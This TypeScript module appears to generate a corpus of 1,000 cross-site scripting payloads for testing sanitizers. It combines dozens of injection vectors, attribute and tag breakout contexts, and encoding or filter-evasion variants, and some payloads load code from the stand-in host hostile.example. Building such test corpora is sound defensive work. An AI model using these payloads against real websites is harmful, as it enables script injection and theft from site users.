/** One text that would be harmful where it is read as markup, as an address, or as code. */
export type Payload = {
  /** Stands in the text whatever is done to it: by this it is found on screens. */
  readonly id: string;
  readonly text: string;
  readonly vector: string;
  readonly context: string;
  readonly variant: string;
};

export const payloadCount = 1_000;

/** `id` marks the element that is injected, `code` is what would run: it sets `window.__hostile`, also from inside a frame. */
type Make = (id: string, code: string) => string;
export type Vector = {
  readonly name: string;
  readonly make: Make;
  /** What a careless page makes of it, where that is not the text as it stands. */
  readonly careless?: Make;
};

const image = (id: string, code: string): string => `<img src=x data-hostile=${id} onerror=${code}>`;
const link = (address: string): Make => {
  return (id, code) => `<a data-hostile=${id} href="${address.replace('CODE', code)}">${id}</a>`;
};

const markup: readonly Vector[] = [
  { name: 'script', make: (id, code) => `<script data-hostile=${id}>${code}</script>` },
  {
    name: 'script from elsewhere',
    make: (id) => `<script data-hostile=${id} src=//hostile.example/${id}.js></script>`,
  },
  { name: 'image', make: image },
  { name: 'svg', make: (id, code) => `<svg data-hostile=${id} onload=${code}></svg>` },
  { name: 'script in svg', make: (id, code) => `<svg data-hostile=${id}><script>${code}</script></svg>` },
  {
    name: 'animated link in svg',
    make: (id, code) =>
      `<svg data-hostile=${id}><a><animate attributeName=href values=javascript:${code} /><text>${id}</text></a></svg>`,
  },
  {
    name: 'page in a frame',
    make: (id, code) => `<iframe data-hostile=${id} srcdoc="<script>${code}</script>"></iframe>`,
  },
  { name: 'frame', make: (id, code) => `<iframe data-hostile=${id} src=javascript:${code}></iframe>` },
  {
    name: 'details',
    make: (id, code) => `<details open data-hostile=${id} ontoggle=${code}><summary>${id}</summary></details>`,
  },
  {
    name: 'math',
    make: (id, code) => `<math data-hostile=${id}><mi xlink:href="javascript:${code}">${id}</mi></math>`,
  },
  {
    name: 'markup that changes when parsed twice',
    make: (id, code) => `<math><mtext><table><mglyph><style><!--</style>${image(id, code)}--></style></mglyph></table>`,
  },
  { name: 'style', make: (id) => `<style data-hostile=${id}>body{background:url(//hostile.example/${id})}</style>` },
  { name: 'stylesheet', make: (id) => `<link data-hostile=${id} rel=stylesheet href=//hostile.example/${id}.css>` },
  { name: 'base', make: (id) => `<base data-hostile=${id} href=//hostile.example/${id}/>` },
  {
    name: 'refresh',
    make: (id) => `<meta data-hostile=${id} http-equiv=refresh content="9;url=//hostile.example/${id}">`,
  },
  { name: 'link', make: link('javascript:CODE') },
  { name: 'link with a tab', make: link('java&Tab;script:CODE') },
  { name: 'link to data', make: link('data:text/html,<script>CODE</script>') },
  { name: 'link to a program of old', make: link('vbscript:CODE') },
  { name: 'focus', make: (id, code) => `<input data-hostile=${id} autofocus onfocus=${code}>` },
  { name: 'video', make: (id, code) => `<video data-hostile=${id}><source onerror=${code}></video>` },
  { name: 'audio', make: (id, code) => `<audio data-hostile=${id} src=x onerror=${code}></audio>` },
  { name: 'object', make: (id, code) => `<object data-hostile=${id} data="javascript:${code}"></object>` },
  { name: 'embed', make: (id, code) => `<embed data-hostile=${id} src="javascript:${code}">` },
  {
    name: 'form',
    make: (id, code) => `<form data-hostile=${id}><button formaction="javascript:${code}">${id}</button></form>`,
  },
  {
    name: 'animation',
    make: (id, code) => `<b data-hostile=${id} style="animation:x" onanimationstart=${code}>${id}</b>`,
  },
  { name: 'template', make: (id, code) => `<template></template>${image(id, code)}` },
  {
    name: 'noscript',
    make: (id, code) => `<noscript><p title="</noscript>${image(id, code)}">`,
  },
  { name: 'select', make: (id, code) => `<select></select><keygen autofocus data-hostile=${id} onfocus=${code}>` },
  {
    name: 'own element',
    make: (id, code) => `<x-y data-hostile=${id} tabindex=1 onfocus=${code} autofocus>${id}</x-y>`,
  },
];

/** What a page does that trusts the addresses of Markdown, or that reads a text as a template. */
const inMarkdown = (name: string, make: Make, careless: Make): Vector => ({ name, make, careless });
const notMarkup: readonly Vector[] = [
  inMarkdown('Markdown link', (id, code) => `[${id}](javascript:${code})`, link('javascript:CODE')),
  inMarkdown('Markdown link in mixed case', (id, code) => `[${id}](JaVaScRiPt:${code})`, link('JaVaScRiPt:CODE')),
  inMarkdown('Markdown link with an entity', (id, code) => `[${id}](javascript&#58;${code})`, link('javascript:CODE')),
  inMarkdown(
    'Markdown link to data',
    (id, code) => `[${id}](data:text/html,%3Cscript%3E${code}%3C/script%3E)`,
    link('data:text/html,CODE'),
  ),
  inMarkdown(
    'Markdown link by reference',
    (id, code) => `[${id}][${id}]\n\n[${id}]: javascript:${code}`,
    link('javascript:CODE'),
  ),
  inMarkdown('Markdown address', (id, code) => `<javascript:${code}//${id}>`, link('javascript:CODE')),
  inMarkdown(
    'Markdown picture from elsewhere',
    (id) => `![${id}](https://hostile.example/${id}.png)`,
    (id) => `<img data-hostile=${id} src=https://hostile.example/${id}.png>`,
  ),
  inMarkdown('Markdown picture that breaks out', (id, code) => `![${id}](x"onerror="${code})`, image),
  inMarkdown(
    'Markdown title that breaks out',
    (id, code) => `[${id}](https://example.com 'x"onclick="${code}')`,
    image,
  ),
  inMarkdown(
    'expression in braces',
    (id, code) => `{{constructor.constructor('${code}//${id}')()}}`,
    (id, code) => `<script data-hostile=${id}>${code}</script>`,
  ),
  inMarkdown(
    'expression of a template',
    (id, code) => `\${${code}/*${id}*/}<%=${code}%>#{${code}}`,
    (id, code) => `<script data-hostile=${id}>${code}</script>`,
  ),
];

export const vectors: readonly Vector[] = [...markup, ...notMarkup];

/** What stands around it: the end of whatever a page may have put it into. */
const contexts: Readonly<Record<string, (text: string, id: string, code: string) => string>> = {
  alone: (text) => text,
  'after a word': (text) => `Sales ${text} and more`,
  'out of a double-quoted attribute': (text) => `">${text}`,
  'out of a single-quoted attribute': (text) => `'>${text}`,
  'out of an attribute without quotes': (text) => `x ${text}`,
  'into the same tag': (text, id, code) => `" autofocus onfocus="${code}" data-hostile=${id} x="${text}`,
  'into the same tag, single quotes': (text, id, code) => `' onmouseover='${code}' data-hostile=${id} x='${text}`,
  'out of a comment': (text) => `-->${text}<!--`,
  'out of a section': (text) => `]]>${text}`,
  'out of a title': (text) => `</title>${text}`,
  'out of a text area': (text) => `</textarea>${text}`,
  'out of a style': (text) => `</style>${text}`,
  'out of a script': (text) => `</script>${text}`,
  'out of a string': (text, _id, code) => `'-${code}-'\\';${code}//${text}`,
  'out of a string of JSON': (text, _id, code) => `"};${code}//${text}`,
  'in a code block': (text) => `\`${text}\``,
};

/** Letters in turn large and small, in the names of elements, events and schemes; what they say stays. */
const mixCase = (text: string): string =>
  text.replace(/<\/?[a-z]+|\bon[a-z]+=|javascript:/gi, (word) =>
    [...word].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase())).join(''),
  );
const each = (text: string, signs: RegExp, write: (sign: string, code: number) => string): string =>
  text.replace(signs, (sign) => write(sign, sign.codePointAt(0) ?? 0));
const hex = (code: number, length: number): string => code.toString(16).padStart(length, '0');
const special = /[<>"'&]/g;

const variants: Readonly<Record<string, (text: string) => string>> = {
  'as it is': (text) => text,
  'mixed case': mixCase,
  'slashes for spaces': (text) => text.replaceAll(/(<[a-z]+) /gi, '$1/'),
  'line breaks for spaces': (text) => text.replaceAll(/(<[a-z]+) /gi, '$1\n'),
  'tabs for spaces': (text) => text.replaceAll(/(<[a-z]+) /gi, '$1\t'),
  'unusual spaces': (text) => text.replaceAll(/(<[a-z]+) /gi, '$1\u3000\u00a0 '),
  'entities by name': (text) =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  'entities by number': (text) => each(text, special, (_, code) => `&#${code};`),
  'entities in hex without an end': (text) => each(text, special, (_, code) => `&#x${hex(code, 7)}`),
  'twice encoded entities': (text) => each(text, special, (_, code) => `&amp;#${code};`),
  percent: (text) => each(text, special, (_, code) => `%${hex(code, 2).toUpperCase()}`),
  'twice encoded percent': (text) => each(text, special, (_, code) => `%25${hex(code, 2).toUpperCase()}`),
  'escapes of scripts': (text) => each(text, special, (_, code) => `\\u${hex(code, 4)}`),
  'short escapes of scripts': (text) => each(text, special, (_, code) => `\\x${hex(code, 2)}`),
  'wide letters': (text) => each(text, /[<>"']/g, (_, code) => String.fromCodePoint(code + 0xfee0)),
  'seven bits': (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  'zero width': (text) => text.replaceAll('<', '<\u200b').replaceAll('=', '=\u200d'),
  'soft hyphen and byte order mark': (text) => `\ufeff${text.replaceAll('javascript:', 'java\u00adscript:')}`,
  'written null': (text) => text.replaceAll(/<([a-z])/gi, '<&#0;$1').replaceAll('javascript:', 'java%00script:'),
  'replaced null': (text) => text.replaceAll(/<([a-z])/gi, '<$1\ufffd'),
  'right to left': (text) => `\u202e${text}\u202c`,
  'opened twice': (text) => text.replaceAll(/<([a-z])/gi, '<<$1'),
  'never closed': (text) => text.replace(/>$/, ''),
  'one inside the other': (text) => text.replaceAll(/<(script|img|svg|iframe)/gi, '<scr<script>ipt><$1'),
};

const idOf = (number: number): string => `hx${String(number).padStart(4, '0')}`;
const codeOf = (number: number): string => `top.__hostile=${number}`;

/** Finds the ids of payloads in a text, however they were encoded. */
export const idsIn = (text: string): string[] => text.match(/hx\d{4}/g) ?? [];

/** A prime that no count of theirs is a multiple of: each step changes vector, context and variant. */
const stride = 7_919;

/** Distinct texts: every vector, context and variant many times, in ever other company. */
export function makePayloads(count = payloadCount): Payload[] {
  const payloads: Payload[] = [];
  const known = new Set<string>();
  const [around, changed] = [Object.entries(contexts), Object.entries(variants)];
  const all = vectors.length * around.length * changed.length;
  for (let turn = 0; payloads.length < count && turn < all; turn += 1) {
    const at = (turn * stride) % all;
    const vector = vectors[at % vectors.length];
    const [context, wrap] = around[Math.floor(at / vectors.length) % around.length] ?? [];
    const [variant, change] = changed[Math.floor(at / vectors.length / around.length)] ?? [];
    if (!vector || !context || !wrap || !variant || !change) continue;
    const write = (id: string, code: string) => change(wrap(vector.make(id, code), id, code));
    // Two that differ in their numbers alone count once.
    const skeleton = write('hx', 'code');
    if (known.has(skeleton)) continue;
    known.add(skeleton);
    const number = payloads.length;
    const text = write(idOf(number), codeOf(number));
    payloads.push({ id: idOf(number), text, vector: vector.name, context, variant });
  }
  return payloads;
}

/** The harm of one vector as a page does it that takes texts as they come. */
export function carelessly(vector: Vector, number: number): string {
  return (vector.careless ?? vector.make)(idOf(number), codeOf(number));
}
